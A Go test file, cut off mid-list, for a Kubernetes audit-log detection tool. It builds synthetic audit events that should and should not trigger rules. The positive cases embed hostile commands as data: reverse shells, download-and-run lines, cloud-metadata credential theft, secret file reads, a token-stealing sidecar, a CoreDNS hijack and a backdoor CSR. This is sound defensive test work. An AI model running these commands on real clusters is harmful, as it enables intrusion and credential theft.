package rules

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"net/url"
	"strings"
	"testing"

	authnv1 "k8s.io/api/authentication/v1"
	"k8s.io/apimachinery/pkg/runtime"
	auditv1 "k8s.io/apiserver/pkg/apis/audit/v1"

	"github.com/kube-audit-kafka/kube-audit-kafka/enrich/audit"
	"github.com/kube-audit-kafka/kube-audit-kafka/internal/glob"
	"github.com/kube-audit-kafka/kube-audit-kafka/internal/record"
)

// Test events of the detection-depth rules (issue 13): realistic
// kube-apiserver events written for these tests, each rule with a positive
// event and a near miss that must not fire. They join ruleCases, so that
// TestDefaultRules and TestRuleIndexIsExact run them.

const (
	uaKubectl   = "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46"
	uaCurl      = "curl/8.5.0"
	uaPython    = "python-requests/2.31.0"
	uaGoHTTP    = "Go-http-client/2.0"
	uaClientGo  = "external-secrets/v0.9.11 (linux/amd64) kubernetes/$Format"
	uaRakkess   = "access_matrix/v0.5.0 (linux/amd64) kubernetes/$Format"
	saApp       = "system:serviceaccount:shop:checkout"
	saKubeSys   = "system:serviceaccount:kube-system:external-secrets"
	podName     = "checkout-6c9f7d8b5-x2kqp"
	execBaseURI = "/api/v1/namespaces/shop/pods/" + podName + "/exec?"
)

// evOpt edits an event built by mk.
type evOpt func(*auditv1.Event)

func withUA(ua string) evOpt { return func(ev *auditv1.Event) { ev.UserAgent = ua } }

func withURI(u string) evOpt { return func(ev *auditv1.Event) { ev.RequestURI = u } }

func withStage(s auditv1.Stage) evOpt { return func(ev *auditv1.Event) { ev.Stage = s } }

func denied(ev *auditv1.Event) {
	ev.Annotations["authorization.k8s.io/decision"] = "forbid"
	ev.ResponseStatus.Status, ev.ResponseStatus.Reason = "Failure", "Forbidden"
}

// asSA makes the user a service account with its groups and pod binding.
func asSA(sa string) evOpt {
	return func(ev *auditv1.Event) {
		ns := strings.Split(sa, ":")[2]
		ev.User.Username = sa
		ev.User.Groups = []string{"system:serviceaccounts", "system:serviceaccounts:" + ns, "system:authenticated"}
		ev.User.Extra = map[string]authnv1.ExtraValue{
			"authentication.kubernetes.io/pod-name":      {podName},
			"authentication.kubernetes.io/node-name":     {"worker-2"},
			"authentication.kubernetes.io/credential-id": {"JTI=2b6f1f0e-7a51-4c1e-9f0d-5d2f3c3a9b10"},
		}
		ev.SourceIPs = []string{"10.244.2.17"}
	}
}

func anonymous(ev *auditv1.Event) {
	ev.User.Username, ev.User.Groups = "system:anonymous", []string{"system:unauthenticated"}
}

func withResponse(raw string) evOpt {
	return func(ev *auditv1.Event) {
		ev.ResponseObject = &runtime.Unknown{Raw: []byte(raw), ContentType: "application/json"}
	}
}

// ev builds an event with mk and applies opts.
func ev(verb, group, resource, sub, ns, name, username string, code int32, body string, opts ...evOpt) func(testing.TB) auditv1.Event {
	return func(t testing.TB) auditv1.Event {
		e := mk(t, verb, group, resource, sub, ns, name, username, code, body)
		path := "/api/v1"
		if group != "" {
			path = "/apis/" + group + "/v1"
		}
		if ns != "" {
			path += "/namespaces/" + ns
		}
		path += "/" + resource
		if name != "" {
			path += "/" + name
		}
		if sub != "" {
			path += "/" + sub
		}
		e.RequestURI = path
		for _, o := range opts {
			o(&e)
		}
		return e
	}
}

// execEv is a kubectl exec (SPDY: create, ResponseStarted 101) running args.
func execEv(user string, args ...string) func(testing.TB) auditv1.Event {
	q := ""
	for _, a := range args {
		q += "command=" + url.QueryEscape(a) + "&"
	}
	return ev("create", "", "pods", "exec", "shop", podName, user, 101, "",
		withURI(execBaseURI+q+"container=checkout&stdin=true&stdout=true&tty=true"),
		withStage(auditv1.StageResponseStarted))
}

// ephemeralEv is kubectl debug's patch of pods/ephemeralcontainers.
func ephemeralEv(cmd ...string) func(testing.TB) auditv1.Event {
	c, _ := json.Marshal(cmd)
	return ev("patch", "", "pods", "ephemeralcontainers", "shop", podName, "alice", 200,
		`{"spec":{"ephemeralContainers":[{"name":"debugger-7xk2p","image":"busybox:1.36","command":`+string(c)+`,"resources":{},"terminationMessagePolicy":"File","imagePullPolicy":"IfNotPresent","stdin":true,"tty":true}]}}`)
}

func podBody(containerExtra string, volumes string) string {
	return `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"netdebug","namespace":"shop"},"spec":{"containers":[{"name":"netdebug","image":"nicolaka/netshoot:v0.13","command":["sleep","infinity"]` +
		containerExtra + `}],"volumes":[` + volumes + `],"restartPolicy":"Always"}}`
}

const deployWeb = `{"kind":"Deployment","apiVersion":"apps/v1","metadata":{"name":"web","namespace":"shop","annotations":{"kubectl.kubernetes.io/last-applied-configuration":"{\"apiVersion\":\"apps/v1\",\"kind\":\"Deployment\",\"metadata\":{\"name\":\"web\",\"namespace\":\"shop\"},\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"web\",\"image\":\"nginx:1.27\"}]}}}}\n"}},"spec":{"replicas":2,"selector":{"matchLabels":{"app":"web"}},"template":{"metadata":{"labels":{"app":"web"}},"spec":{"containers":[{"name":"web","image":"nginx:1.27","ports":[{"containerPort":80}]}CONTAINERS]}}}}`

func deployment(extra string) string { return strings.Replace(deployWeb, "CONTAINERS", extra, 1) }

// managedDeployment is the response of a patch of deployment web: kubectl
// create made it with container web; manager owns the given fields of the
// template's containers.
func managedDeployment(fields, manager string) string {
	return `{"kind":"Deployment","apiVersion":"apps/v1","metadata":{"name":"web","namespace":"shop","generation":3,"managedFields":[` +
		`{"manager":"kubectl-create","operation":"Update","apiVersion":"apps/v1","time":"2026-11-20T10:00:00Z","fieldsType":"FieldsV1","fieldsV1":{"f:spec":{"f:replicas":{},"f:template":{"f:spec":{"f:containers":{"k:{\"name\":\"web\"}":{".":{},"f:image":{},"f:name":{}}}}}}}},` +
		`{"manager":"` + manager + `","operation":"Update","apiVersion":"apps/v1","time":"2026-11-22T02:21:19Z","fieldsType":"FieldsV1","fieldsV1":{"f:spec":{"f:template":{"f:spec":{"f:containers":{` + fields + `}}}}}}]},` +
		`"spec":{"replicas":2,"template":{"spec":{"containers":[{"name":"web","image":"nginx:1.27"},{"name":"helper","image":"203.0.113.9:5000/helper:latest"}]}}}}`
}

// csrBody is a CertificateSigningRequest for cn in the organisations orgs.
func csrBody(t testing.TB, cn string, orgs ...string) string {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: cn, Organization: orgs}}, key)
	if err != nil {
		t.Fatal(err)
	}
	req := base64.StdEncoding.EncodeToString(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}))
	return `{"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1","metadata":{"name":"` + cn + `"},"spec":{"request":"` + req +
		`","signerName":"kubernetes.io/kube-apiserver-client","expirationSeconds":31536000,"usages":["client auth"]}}`
}

func csrEv(cn string, orgs ...string) func(testing.TB) auditv1.Event {
	return func(t testing.TB) auditv1.Event {
		return ev("create", "certificates.k8s.io", "certificatesigningrequests", "", "", cn, "alice", 201, csrBody(t, cn, orgs...))(t)
	}
}

func roleBody(kind, verbs, resources string) string {
	return `{"kind":"` + kind + `","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"ci-deployer"},"rules":[{"apiGroups":[""],"resources":` + resources + `,"verbs":` + verbs + `}]}`
}

func depthRuleCases() []ruleCase {
	rbac := "rbac.authorization.k8s.io"
	return []ruleCase{
		// Exec commands.
		{"exec_reverse_shell", "bash /dev/tcp", execEv("alice", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), true},
		{"exec_reverse_shell", "nc -e", execEv("alice", "nc", "198.51.100.23", "9001", "-e", "/bin/sh"), true},
		{"exec_reverse_shell", "mkfifo and nc", execEv("alice", "sh", "-c", "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.23 9001 >/tmp/f"), true},
		{"exec_reverse_shell", "python socket", execEv("alice", "python3", "-c", `import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.9",443));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])`), true},
		{"exec_reverse_shell", "socat exec", execEv("alice", "socat", "tcp-connect:203.0.113.9:4444", "exec:/bin/bash,pty,stderr,setsid"), true},
		{"exec_reverse_shell", "WebSocket exec (get)", func(t testing.TB) auditv1.Event {
			e := execEv("alice", "sh", "-c", "sh -i >& /dev/udp/203.0.113.9/53 0>&1")(t)
			e.Verb = "get"
			return e
		}, true},
		{"exec_reverse_shell", "near miss: local port check", execEv("alice", "bash", "-c", "</dev/tcp/127.0.0.1/5432 && echo up"), false},
		{"exec_reverse_shell", "near miss: plain shell", execEv("alice", "sh"), false},
		{"exec_cloud_metadata", "AWS IMDS credentials", execEv("alice", "curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"), true},
		{"exec_cloud_metadata", "GCP metadata token", execEv("alice", "sh", "-c", `curl -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token`), true},
		{"exec_cloud_metadata", "kubectl debug container", ephemeralEv("sh", "-c", "wget -qO- http://169.254.169.254/latest/api/token"), true},
		{"exec_cloud_metadata", "near miss: service URL", execEv("alice", "curl", "-s", "http://checkout.shop.svc:8080/metrics"), false},
		{"exec_credential_access", "service-account token", execEv("alice", "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"), true},
		{"exec_credential_access", "aws credentials", execEv("alice", "sh", "-c", "cat ~/.aws/credentials"), true},
		{"exec_credential_access", "shadow", execEv("alice", "cat", "/etc/shadow"), true},
		{"exec_credential_access", "kubeconfig", execEv("alice", "cat", "/etc/kubernetes/admin.conf"), true},
		{"exec_credential_access", "near miss: resolv.conf", execEv("alice", "cat", "/etc/resolv.conf"), false},
		{"exec_download_and_run", "curl | sh", execEv("alice", "sh", "-c", "curl -fsSL https://203.0.113.9/x.sh | sh"), true},
		{"exec_download_and_run", "wget and chmod", execEv("alice", "sh", "-c", "wget -q https://evil.example.net/xmrig -O /tmp/k && chmod +x /tmp/k && /tmp/k"), true},
		{"exec_download_and_run", "curl -o and run", execEv("alice", "sh", "-c", "curl -so /tmp/.x http://203.0.113.9/x && chmod +x /tmp/.x && /tmp/.x"), true},
		{"exec_download_and_run", "python urlopen", execEv("alice", "python3", "-c", "import urllib.request as u;exec(u.urlopen('https://203.0.113.9/s.py').read())"), true},
		{"exec_download_and_run", "near miss: local health check", execEv("alice", "curl", "-s", "https://localhost:8443/healthz"), false},
		{"exec_download_and_run", "near miss: in-cluster service over HTTP", execEv("alice", "curl", "-s", "http://checkout.shop.svc:8080/metrics"), false},
		{"exec_package_manager", "apt-get install", execEv("alice", "sh", "-c", "apt-get update && apt-get install -y nmap"), true},
		{"exec_package_manager", "apk add", execEv("alice", "apk", "add", "--no-cache", "socat"), true},
		{"exec_package_manager", "pip install", execEv("alice", "pip", "install", "impacket"), true},
		{"exec_package_manager", "near miss: list packages", execEv("alice", "apt", "list", "--installed"), false},
		{"exec_compiler", "gcc", execEv("alice", "gcc", "-static", "-o", "/tmp/x", "/tmp/x.c"), true},
		{"exec_compiler", "go build", execEv("alice", "sh", "-c", "cd /src && go build -o /tmp/agent ."), true},
		{"exec_compiler", "near miss: version", execEv("alice", "gcc", "--version"), false},

		// User agents.
		{"secret_read_by_scripting_agent", "curl gets a secret", ev("get", "", "secrets", "", "shop", "db-creds", "ci-bot", 200, "", withUA(uaCurl)), true},
		{"secret_read_by_scripting_agent", "python lists secrets", ev("list", "", "secrets", "", "", "", "ci-bot", 200, "", withUA(uaPython)), true},
		{"secret_read_by_scripting_agent", "near miss: kubectl", ev("get", "", "secrets", "", "shop", "db-creds", "ci-bot", 200, ""), false},
		{"secret_read_by_scripting_agent", "near miss: denied", ev("get", "", "secrets", "", "shop", "db-creds", "ci-bot", 403, "", withUA(uaCurl), denied), false},
		{"sensitive_access_by_workload_agent", "lab app-sa lists secrets with curl, denied",
			labEv(user("system:serviceaccount:audit-lab:app-sa"), res("list", "secrets", "")), true},
		{"sensitive_access_by_workload_agent", "lab anonymous lists secrets with curl", labEv(user("system:anonymous"), res("list", "secrets", "")), true},
		{"sensitive_access_by_workload_agent", "SA kubectl creates a clusterrolebinding",
			ev("create", rbac, "clusterrolebindings", "", "", "pwn", "", 201, "", asSA(saApp), withUA(uaKubectl)), true},
		{"sensitive_access_by_workload_agent", "SA Go-http-client execs", ev("create", "", "pods", "exec", "shop", podName, "", 101, "", asSA(saApp), withUA(uaGoHTTP)), true},
		{"sensitive_access_by_workload_agent", "near miss: operator's client-go", ev("get", "", "secrets", "", "shop", "db-creds", "", 200, "", asSA(saApp), withUA(uaClientGo)), false},
		{"sensitive_access_by_workload_agent", "near miss: SA curl lists pods", ev("list", "", "pods", "", "shop", "", "", 200, "", asSA(saApp), withUA(uaCurl)), false},
		{"offensive_tool_user_agent", "rakkess access matrix", ev("create", "authorization.k8s.io", "selfsubjectaccessreviews", "", "", "", "bob", 201, "", withUA(uaRakkess)), true},
		{"offensive_tool_user_agent", "kali curl", ev("list", "", "pods", "", "", "", "system:anonymous", 403, "", withUA("Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0 distrib#kali"), anonymous, denied), true},
		{"offensive_tool_user_agent", "near miss: kubectl", ev("list", "", "pods", "", "", "", "bob", 200, ""), false},
		{"kubectl_by_service_account", "kubectl in a pod", ev("list", "", "pods", "", "shop", "", "", 200, "", asSA(saApp), withUA(uaKubectl)), true},
		{"kubectl_by_service_account", "near miss: an admin's kubectl", ev("list", "", "pods", "", "shop", "", "kubernetes-admin", 200, ""), false},

		// Denied access.
		{"secret_access_denied", "lab anonymous lists secrets", labEv(user("system:anonymous"), res("list", "secrets", "")), true},
		{"secret_access_denied", "lab dev-user watch denied", ev("watch", "", "secrets", "", "audit-lab", "", "dev-user", 403, "", denied), true},
		{"secret_access_denied", "near miss: secret read", labEv(user("kubernetes-admin"), res("get", "secrets", ""), code(200)), false},
		{"secret_access_denied", "near miss: not found", ev("get", "", "secrets", "", "shop", "gone", "alice", 404, ""), false},
		{"secret_access_denied_sa_scripting", "lab app-sa curl denied", labEv(user("system:serviceaccount:audit-lab:app-sa"), res("list", "secrets", "")), true},
		{"secret_access_denied_sa_scripting", "near miss: anonymous (not a SA)", labEv(user("system:anonymous"), res("list", "secrets", "")), false},
		{"secret_access_denied_sa_scripting", "near miss: SA's client-go denied", ev("list", "", "secrets", "", "shop", "", "", 403, "", asSA(saApp), withUA(uaClientGo), denied), false},
		{"sa_request_denied_scripting", "lab app-sa curl lists pods, denied", labEv(user("system:serviceaccount:audit-lab:app-sa"), res("list", "pods", "")), true},
		{"sa_request_denied_scripting", "near miss: SA's client-go denied", ev("list", "", "pods", "", "shop", "", "", 403, "", asSA(saApp), withUA(uaClientGo), denied), false},
		{"anonymous_write_attempt", "lab anonymous creates a secret, denied", labEv(user("system:anonymous"), res("create", "secrets", "")), true},
		{"anonymous_write_attempt", "anonymous creates a pod, denied", ev("create", "", "pods", "", "default", "", "", 403, podBody("", ""), anonymous, denied, withUA(uaCurl)), true},
		{"anonymous_write_attempt", "near miss: anonymous whoami", ev("create", "authentication.k8s.io", "selfsubjectreviews", "", "", "", "", 201, "", anonymous, withUA(uaCurl)), false},
		{"anonymous_write_attempt", "near miss: anonymous reads /version", labEv(user("system:anonymous"), uri("/version")), false},
		{"create_forbidden", "lab dev-user creates a configmap, denied", labEv(user("dev-user"), res("create", "configmaps", "")), true},
		{"create_forbidden", "near miss: kubelet denied by NodeRestriction", ev("create", "", "pods", "", "kube-system", "", "system:node:worker-2", 403, "", denied), false},
		{"create_forbidden", "near miss: quota exceeded (403, authorized)", ev("create", "", "pods", "", "shop", "", "alice", 403, podBody("", "")), false},
		{"create_forbidden", "near miss: allowed create", ev("create", "", "configmaps", "", "shop", "cfg", "alice", 201, ""), false},
		{"rbac_change_denied", "lab dev-user creates a clusterrolebinding, denied", labEv(user("dev-user"), res("create", "clusterrolebindings", "")), true},
		{"rbac_change_denied", "escalation check refuses a role", ev("create", rbac, "roles", "", "shop", "", "", 403, roleBody("Role", `["*"]`, `["*"]`), asSA(saApp), withUA(uaClientGo), denied), true},
		{"rbac_change_denied", "near miss: allowed", labEv(user("kubernetes-admin"), res("create", "roles", "")), false},
		{"rbac_changed", "near miss: denied attempt", labEv(user("dev-user"), res("create", "clusterrolebindings", "")), false},
		{"workload_change_denied", "openshift pod creation denied", sample(6), true},
		{"workload_change_denied", "SA patches a deployment, denied", ev("patch", "apps", "deployments", "", "shop", "web", "", 403, deployment(""), asSA(saApp), denied), true},
		{"workload_change_denied", "near miss: created", falco(27), false},
		{"privileged_workload", "near miss: denied attempt", func(t testing.TB) auditv1.Event {
			e := falco(23)(t)
			e.ResponseStatus.Code = 403
			return e
		}, false},

		// Sensitive objects and actions.
		{"coredns_config_changed", "patch coredns Corefile", ev("patch", "", "configmaps", "", "kube-system", "coredns", "alice", 200,
			`{"data":{"Corefile":".:53 {\n    errors\n    rewrite name bank.example.com attacker.example.net\n    forward . /etc/resolv.conf\n}\n"}}`), true},
		{"coredns_config_changed", "update kube-dns", ev("update", "", "configmaps", "", "kube-system", "kube-dns", "alice", 200, `{"kind":"ConfigMap","metadata":{"name":"kube-dns"},"data":{"stubDomains":"{\"corp\":[\"203.0.113.53\"]}"}}`), true},
		{"coredns_config_changed", "near miss: read", ev("get", "", "configmaps", "", "kube-system", "coredns", "alice", 200, ""), false},
		{"coredns_config_changed", "near miss: another configmap", ev("patch", "", "configmaps", "", "kube-system", "kube-proxy", "alice", 200, `{"data":{}}`), false},
		{"aws_auth_configmap_changed", "update aws-auth", ev("update", "", "configmaps", "", "kube-system", "aws-auth", "arn:aws:iam::111122223333:user/ops", 200,
			`{"kind":"ConfigMap","metadata":{"name":"aws-auth","namespace":"kube-system"},"data":{"mapUsers":"- userarn: arn:aws:iam::444455556666:user/x\n  username: x\n  groups: [system:masters]\n"}}`), true},
		{"aws_auth_configmap_changed", "near miss: read", ev("get", "", "configmaps", "", "kube-system", "aws-auth", "alice", 200, ""), false},
		{"csr_created_or_approved", "client CSR created", csrEv("alice-laptop", "dev"), true},
		{"csr_created_or_approved", "CSR approved", ev("update", "certificates.k8s.io", "certificatesigningrequests", "approval", "", "backdoor", "alice", 200,
			`{"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1","metadata":{"name":"backdoor"},"status":{"conditions":[{"type":"Approved","status":"True","reason":"KubectlApprove"}]}}`), true},
		{"csr_created_or_approved", "near miss: kubelet's CSR", func(t testing.TB) auditv1.Event {
			e := csrEv("system:node:worker-2", "system:nodes")(t)
			e.User.Username = "system:node:worker-2"
			return e
		}, false},
		{"csr_privileged_subject", "system:masters CSR", csrEv("backdoor", "system:masters"), true},
		{"csr_privileged_subject", "near miss: ordinary subject", csrEv("alice-laptop", "dev"), false},
		{"events_deleted", "delete all events of a namespace", ev("deletecollection", "", "events", "", "shop", "", "alice", 200, ""), true},
		{"events_deleted", "delete one event (events.k8s.io)", ev("delete", "events.k8s.io", "events", "", "shop", "checkout.17a8c2e4b1f0", "alice", 200, ""), true},
		{"events_deleted", "near miss: namespace controller", ev("deletecollection", "", "events", "", "shop", "", "system:serviceaccount:kube-system:namespace-controller", 200, ""), false},
		{"cronjob_or_job_written", "cronjob created", ev("create", "batch", "cronjobs", "", "shop", "", "alice", 201,
			`{"kind":"CronJob","apiVersion":"batch/v1","metadata":{"name":"cleanup"},"spec":{"schedule":"*/5 * * * *","jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"c","image":"alpine:3.20","command":["sh","-c","wget -qO- http://203.0.113.9/a | sh"]}],"restartPolicy":"OnFailure"}}}}}}`), true},
		{"cronjob_or_job_written", "job patched", ev("patch", "batch", "jobs", "", "shop", "migrate", "alice", 200, `{"spec":{"suspend":false}}`), true},
		{"cronjob_or_job_written", "near miss: cronjob controller creates a job", ev("create", "batch", "jobs", "", "shop", "", "system:serviceaccount:kube-system:cronjob-controller", 201, `{"kind":"Job","metadata":{"name":"cleanup-29123"}}`), false},
		{"sidecar_container_injected", "strategic-merge patch adds a sidecar", ev("patch", "apps", "deployments", "", "shop", "web", "alice", 200,
			`{"spec":{"template":{"spec":{"containers":[{"name":"log-shipper","image":"alpine:3.20","command":["sh","-c","while true; do cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc 203.0.113.9 9000; sleep 60; done"]}]}}}}`), true},
		{"sidecar_container_injected", "JSON patch adds a container", ev("patch", "apps", "daemonsets", "", "kube-system", "node-agent", "alice", 200,
			`[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"miner","image":"xmrig/xmrig:6.21"}}]`), true},
		{"sidecar_container_injected", "update with a container kubectl apply never had", ev("update", "apps", "deployments", "", "shop", "web", "alice", 200,
			deployment(`,{"name":"proxy","image":"envoyproxy/envoy:v1.30"}`)), true},
		{"sidecar_container_injected", "bare container, managedFields show a second author", ev("patch", "apps", "deployments", "", "shop", "web", "alice", 200,
			`{"spec":{"template":{"spec":{"containers":[{"name":"helper","image":"203.0.113.9:5000/helper:latest"}]}}}}`,
			withResponse(managedDeployment(`"k:{\"name\":\"helper\"}":{".":{},"f:image":{},"f:name":{}}`, "kubectl-patch"))), true},
		{"sidecar_container_injected", "near miss: set image, managedFields", ev("patch", "apps", "deployments", "", "shop", "web", "alice", 200,
			`{"spec":{"template":{"spec":{"containers":[{"image":"nginx:1.27.1","name":"web"}]}}}}`,
			withResponse(managedDeployment(`"k:{\"name\":\"web\"}":{"f:image":{}}`, "kubectl-set"))), false},
		{"sidecar_container_injected", "near miss: kubectl set image", ev("patch", "apps", "deployments", "", "shop", "web", "alice", 200,
			`{"spec":{"template":{"spec":{"containers":[{"image":"nginx:1.27.1","name":"web"}]}}}}`, withResponse(deployment(""))), false},
		{"sidecar_container_injected", "near miss: operator's server-side apply", ev("patch", "apps", "deployments", "", "shop", "web", "system:serviceaccount:shop:web-operator", 200,
			`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","namespace":"shop"},"spec":{"template":{"spec":{"containers":[{"name":"web","image":"nginx:1.27","ports":[{"containerPort":80}]},{"name":"exporter","image":"nginx/nginx-prometheus-exporter:1.1","args":["--nginx.scrape-uri=http://localhost/stub_status"]}]}}}}`,
			withUA("web-operator/v0.3.0 (linux/amd64) kubernetes/$Format")), false},
		{"sidecar_container_injected", "near miss: kubectl scale (update)", ev("update", "apps", "deployments", "", "shop", "web", "alice", 200, deployment("")), false},
		{"dangerous_capabilities_added", "SYS_ADMIN pod", ev("create", "", "pods", "", "shop", "netdebug", "alice", 201,
			podBody(`,"securityContext":{"capabilities":{"add":["SYS_ADMIN","NET_RAW"]}}`, "")), true},
		{"dangerous_capabilities_added", "cap_net_admin in a deployment", ev("patch", "apps", "deployments", "", "shop", "web", "alice", 200,
			`{"spec":{"template":{"spec":{"containers":[{"name":"web","securityContext":{"capabilities":{"add":["cap_net_admin"]}}}]}}}}`), true},
		{"dangerous_capabilities_added", "escaped key", ev("create", "", "pods", "", "shop", "netdebug", "alice", 201,
			podBody(`,"securityContext":{"capabilit\u0069es":{"add":["SYS_PTRACE"]}}`, "")), true},
		{"dangerous_capabilities_added", "near miss: NET_BIND_SERVICE, drop ALL", ev("create", "", "pods", "", "shop", "netdebug", "alice", 201,
			podBody(`,"securityContext":{"capabilities":{"add":["NET_BIND_SERVICE"],"drop":["ALL"]}}`, "")), false},
		{"hostpath_volume", "hostPath /var/log", ev("create", "", "pods", "", "shop", "netdebug", "alice", 201,
			podBody("", `{"name":"logs","hostPath":{"path":"/var/log","type":"Directory"}}`)), true},
		{"hostpath_volume", "near miss: emptyDir", ev("create", "", "pods", "", "shop", "netdebug", "alice", 201, podBody("", `{"name":"tmp","emptyDir":{}}`)), false},
		{"role_patched_escalation", "patch a clusterrole to *", ev("patch", rbac, "clusterroles", "", "", "ci-deployer", "alice", 200, `{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`), true},
		{"role_patched_escalation", "JSON patch adds impersonate", ev("patch", rbac, "roles", "", "shop", "ci-deployer", "alice", 200,
			`[{"op":"add","path":"/rules/-","value":{"apiGroups":[""],"resources":["serviceaccounts"],"verbs":["impersonate"]}}]`,
			withResponse(roleBody("Role", `["impersonate"]`, `["serviceaccounts"]`))), true},
		{"role_patched_escalation", "near miss: read-only rules", ev("patch", rbac, "roles", "", "shop", "ci-deployer", "alice", 200, `{"rules":[{"apiGroups":[""],"resources":["pods"],"verbs":["get","list"]}]}`), false},
		{"role_with_escalate_verbs_created", "clusterrole with bind and escalate", ev("create", rbac, "clusterroles", "", "", "ci-deployer", "alice", 201,
			roleBody("ClusterRole", `["bind","escalate"]`, `["clusterroles","clusterrolebindings"]`)), true},
		{"role_with_escalate_verbs_created", "near miss: read-only role", ev("create", rbac, "clusterroles", "", "", "ci-deployer", "alice", 201, roleBody("ClusterRole", `["get"]`, `["pods"]`)), false},
		{"self_subject_review_by_workload", "SA asks its rules", ev("create", "authorization.k8s.io", "selfsubjectrulesreviews", "", "", "", "", 201,
			`{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","spec":{"namespace":"shop"}}`, asSA(saApp), withUA(uaKubectl)), true},
		{"self_subject_review_by_workload", "anonymous whoami", ev("create", "authentication.k8s.io", "selfsubjectreviews", "", "", "", "", 201, "", anonymous, withUA(uaCurl)), true},
		{"self_subject_review_by_workload", "near miss: admin's kubectl auth can-i", ev("create", "authorization.k8s.io", "selfsubjectaccessreviews", "", "", "", "kubernetes-admin", 201, ""), false},
		{"self_subject_review_by_scripting_agent", "curl asks access review", ev("create", "authorization.k8s.io", "selfsubjectaccessreviews", "", "", "", "bob", 201,
			`{"kind":"SelfSubjectAccessReview","apiVersion":"authorization.k8s.io/v1","spec":{"resourceAttributes":{"verb":"list","resource":"secrets"}}}`, withUA(uaCurl)), true},
		{"self_subject_review_by_scripting_agent", "near miss: kubectl", ev("create", "authorization.k8s.io", "selfsubjectaccessreviews", "", "", "", "bob", 201, ""), false},
		{"token_request_for_other_sa", "SA mints a token for a kube-system SA", ev("create", "", "serviceaccounts", "token", "kube-system", "clusterrole-aggregation-controller", "", 201,
			`{"kind":"TokenRequest","apiVersion":"authentication.k8s.io/v1","spec":{"audiences":null,"expirationSeconds":86400}}`, asSA(saApp), withUA(uaKubectl)), true},
		{"token_request_for_other_sa", "near miss: its own token", ev("create", "", "serviceaccounts", "token", "shop", "checkout", "", 201, "", asSA(saApp)), false},
		{"token_request_for_other_sa", "near miss: lab admin's kubectl create token", labEv(res("create", "serviceaccounts", "token")), false},
		{"secret_read_by_service_account", "SA reads a secret", ev("get", "", "secrets", "", "shop", "db-creds", "", 200, "", asSA(saApp), withUA(uaClientGo)), true},
		{"anonymous_request_denied", "lab anonymous GET /api", labEv(user("system:anonymous"), uri("/api"), code(403)), true},
		{"anonymous_request_denied", "near miss: lab anonymous /version allowed", labEv(user("system:anonymous"), uri("/version")), false},
		{"request_denied_scripting_agent", "admin's curl denied", ev("list", "", "nodes", "", "", "", "kubernetes-admin", 403, "", withUA(uaPython), denied), true},
		{"request_denied_scripting_agent", "near miss: kubectl denied", labEv(user("dev-user"), res("list", "pods", ""), code(403)), false},
		{"ephemeral_container_added", "kubectl debug", ephemeralEv("sh"), true},
		{"ephemeral_container_added", "near miss: denied", ev("patch", "", "pods", "ephemeralcontainers", "shop", podName, "alice", 403, `{"spec":{}}`, denied), false},
		{"workload_deleted_by_service_account", "CI SA deletes a deployment", ev("delete", "apps", "deployments", "", "shop", "web", "", 200, "", asSA(saApp), withUA(uaKubectl)), true},
		{"workload_deleted_by_service_account", "near miss: garbage collector", ev("delete", "apps", "deployments", "", "shop", "web", "system:serviceaccount:kube-system:generic-garbage-collector", 200, ""), false},
		{"rbac_permission_enumeration", "kubectl auth can-i --list", ev("create", "authorization.k8s.io", "selfsubjectrulesreviews", "", "", "", "kubernetes-admin", 201,
			`{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","spec":{"namespace":"default"}}`), true},
		{"rbac_permission_enumeration", "near miss: can-i one verb", ev("create", "authorization.k8s.io", "selfsubjectaccessreviews", "", "", "", "kubernetes-admin", 201, ""), false},
		{"secret_modified_or_deleted", "admin replaces a secret", ev("update", "", "secrets", "", "shop", "db-creds", "kubernetes-admin", 200, `{"kind":"Secret","metadata":{"name":"db-creds"},"data":{"password":"cGFzcw=="}}`), true},
		{"secret_modified_or_deleted", "SA deletes a secret", ev("delete", "", "secrets", "", "shop", "db-creds", "", 200, "", asSA(saApp)), true},
		{"secret_modified_or_deleted", "near miss: Helm release record", ev("create", "", "secrets", "", "shop", "sh.helm.release.v1.web.v3", "", 201, "", asSA(saApp)), false},
		{"serviceaccount_created_by_user", "admin creates a SA", ev("create", "", "serviceaccounts", "", "shop", "backup", "kubernetes-admin", 201, `{"kind":"ServiceAccount","metadata":{"name":"backup"}}`), true},
		{"serviceaccount_created_by_user", "near miss: default SA of a new namespace", ev("create", "", "serviceaccounts", "", "shop", "default", "system:serviceaccount:kube-system:service-account-controller", 201, ""), false},
		{"arc_proxy_secret_access", "Arc proxy reads a secret in shop", ev("get", "", "secrets", "", "shop", "db-creds", "system:serviceaccount:azure-arc:azure-arc-kube-aad-proxy-sa", 200, "", withUA(uaClientGo)), true},
